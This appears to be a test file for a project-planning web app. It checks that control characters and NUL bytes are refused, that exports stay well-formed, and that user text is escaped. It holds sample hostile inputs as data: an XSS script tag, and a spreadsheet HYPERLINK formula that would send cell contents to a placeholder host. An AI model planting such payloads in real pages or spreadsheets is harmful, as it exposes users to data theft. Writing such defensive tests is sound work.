"""Text that does not belong: control characters are refused on the field on every path,
exports stay well-formed whatever is stored, formulas stay text, addresses with NUL are 404."""

from __future__ import annotations

from io import BytesIO
from xml.etree import ElementTree

from openpyxl import load_workbook
from tortoise import connections

from schema.common import to_global_id
from server.meetings.models import Meeting
from server.planning import service as planning
from server.planning.models import Task
from tests import factories as f
from tests.schema.test_graphql import gql, token_for
from tests.views.helpers import log_in, post
from tests.views.test_tracking_pages import late_plan

CREATE_TASK = """mutation($input: CreateTaskInput!) {
    createTask(input: $input) { task { name } errors { code field message } } }"""
CREATE_MEETING = """mutation($input: CreateMeetingInput!) {
    createMeeting(input: $input) { meeting { title } errors { code field message } } }"""


async def test_nul_and_control_characters_are_refused_on_the_field_in_graphql(http):
    pm = await f.user()
    project = await f.project(pm, code="CTL")
    token = await token_for(pm)
    pid = to_global_id("Project", project.id)
    for name in ("样机\x00测试", "样机\x07测试", "样机\n测试"):
        answer = await gql(
            http,
            token,
            CREATE_TASK,
            {
                "input": {
                    "projectId": pid,
                    "name": name,
                    "plannedStart": "2026-11-02",
                    "durationDays": 3,
                }
            },
            language="en",
        )
        [error] = answer.json()["data"]["createTask"]["errors"]
        assert error["field"] == ["name"] and error["code"] == "INVALID"
        assert "control characters" in error["message"] or "one line" in error["message"]
    # A bare carriage return in a meeting title once wedged the outbox.
    meeting = await gql(
        http,
        token,
        CREATE_MEETING,
        {
            "input": {
                "projectId": pid,
                "kind": "TOPIC",
                "title": "周例会\r邀请",
                "scheduledStart": "2026-12-10T10:00:00+08:00",
                "durationMinutes": 30,
                "attendeeIds": [],
            }
        },
    )
    [error] = meeting.json()["data"]["createMeeting"]["errors"]
    assert error["field"] == ["title"] and "一行" in error["message"]
    assert await Task.filter(project_id=project.id).count() == 0
    assert await Meeting.filter(project_id=project.id).count() == 0
    # Multi-line text keeps its lines; Windows line ends become plain ones.
    multi = await gql(
        http,
        token,
        CREATE_TASK,
        {
            "input": {
                "projectId": pid,
                "name": "样机测试",
                "plannedStart": "2026-11-02",
                "durationDays": 3,
                "deliverable": "报告\r\n照片\t清单",
            }
        },
    )
    assert multi.json()["data"]["createTask"]["errors"] == []
    assert (await Task.get(project_id=project.id)).deliverable == "报告\n照片\t清单"


async def test_nul_in_a_form_is_refused_on_the_field_and_in_an_address_is_404(http):
    project, pm, liaison, viewer, late = await late_plan()
    await log_in(http, liaison.email)
    refused = await post(
        http,
        f"/projects/TRK/tracking/tasks/{late.id}",
        {"week": "2026-W46", "version": "0", "cause": "模具\x00延期", "action": "换供应商"},
        htmx=True,
    )
    assert refused.status_code == 400 and 'id="cause-error"' in refused.text
    assert "控制字符" in refused.text
    assert (await http.get("/projects/a%00b")).status_code == 404
    assert (await http.get("/projects/TRK%00/plan")).status_code == 404


async def test_exports_are_well_formed_whatever_text_was_stored(http):
    project, pm, liaison, viewer, late = await late_plan()
    # Stored by an older version, before control characters were refused (PostgreSQL never
    # stored NUL; SQLite did).
    sqlite = connections.get("default").capabilities.dialect == "sqlite"
    name = "样机\x00测\x1b试" if sqlite else "样机\x07测\x1b试"
    await Task.filter(id=late.id).update(name=name, deliverable="报告\x0b")
    await log_in(http, pm.email)
    plan = await http.get("/projects/TRK/plan.xlsx")
    assert plan.status_code == 200
    names = [c.value for c in load_workbook(BytesIO(plan.content)).active["B"]]
    assert "样机测试" in [n.strip() for n in names if n]
    svg = await http.get("/projects/TRK/plan.svg")
    assert svg.status_code == 200
    ElementTree.fromstring(svg.content)  # noqa: S314 - our own output; raises on a control character
    tracking = await http.get("/projects/TRK/tracking.xlsx?week=2026-W46")
    assert tracking.status_code == 200
    page = await http.get("/projects/TRK/plan")
    assert page.status_code == 200 and "\x00" not in page.text


async def test_markup_typed_as_a_name_is_shown_as_text_in_the_chart(http):
    project, pm, liaison, viewer, late = await late_plan()
    name = '<script>alert(1)</script> & "引号"'
    await Task.filter(id=late.id).update(name=name)
    await log_in(http, pm.email)
    svg = await http.get("/projects/TRK/plan.svg")
    titles = [
        t.text or ""
        for t in ElementTree.fromstring(svg.content).iter("{http://www.w3.org/2000/svg}title")  # noqa: S314
    ]
    assert any(name in t for t in titles) and "<script>" not in svg.text
    page = await http.get("/projects/TRK/plan")
    assert "<script>alert(1)" not in page.text and "&lt;script&gt;alert(1)" in page.text


async def test_formulas_typed_as_names_are_exported_as_text(http):
    project, pm, liaison, viewer, late = await late_plan()
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
    await planning.update_task(
        f.actor(pm),
        task_id=late.id,
        version=(await Task.get(id=late.id)).version,
        data=planning.TaskInput(name=formula, deliverable="=1+2"),
    )
    await log_in(http, pm.email)
    sheet = load_workbook(BytesIO((await http.get("/projects/TRK/plan.xlsx")).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value in (formula, "=1+2")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
    tracking = load_workbook(
        BytesIO((await http.get("/projects/TRK/tracking.xlsx?week=2026-W46")).content)
    ).active
    texts = [c for row in tracking.iter_rows() for c in row if c.value == formula]
    assert len(texts) == 1 and texts[0].data_type == "s"


async def test_explaining_a_task_of_another_project_is_not_found(http):
    project, pm, liaison, viewer, late = await late_plan()
    other = await f.project(pm, code="OTHER")
    await log_in(http, pm.email)
    answer = await post(
        http,
        f"/projects/{other.code}/tracking/tasks/{late.id}",
        {"week": "2026-W46", "version": "0", "cause": "x", "action": "y"},
        htmx=True,
    )
    assert answer.status_code == 404


async def test_hsts_is_sent_when_served_over_https(db):
    import dataclasses

    import httpx

    from server.app import create_app

    for base_url, expected in (("https://xt.example.com", True), ("http://127.0.0.1:8000", False)):
        app = create_app(dataclasses.replace(db, base_url=base_url), init_database=False)
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
            response = await client.get("/login")
        assert ("strict-transport-security" in response.headers) is expected
